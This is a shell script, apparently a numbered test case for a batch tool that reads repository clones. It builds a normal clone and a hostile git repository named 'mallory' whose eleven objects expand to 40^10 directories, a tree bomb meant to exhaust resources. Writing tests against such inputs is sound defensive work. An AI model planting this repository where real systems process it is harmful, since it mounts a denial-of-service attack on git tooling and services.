# batch: cannot read the clone
# 61: 40 to the power of ten folders in eleven objects.
git() { command git -c user.name=x -c user.email=x@x -c init.defaultBranch=main "$@"; }
clone() { mkdir -p "$1" && cp "$2" "$1/" && (cd "$1" && git init -q && git add . && git commit -qm x); }
mkdir clones && clone clones/alice "$1" && cd clones || exit
git init -q mallory && cd mallory || exit
tree=$(git mktree </dev/null)
for level in 1 2 3 4 5 6 7 8 9 10; do
    tree=$(for i in $(seq 40); do printf '040000 tree %s\td%02d\n' "$tree" "$i"; done | git mktree)
done
git update-ref HEAD "$(git commit-tree -m x "$tree")" && cd ..
echo "$PWD"
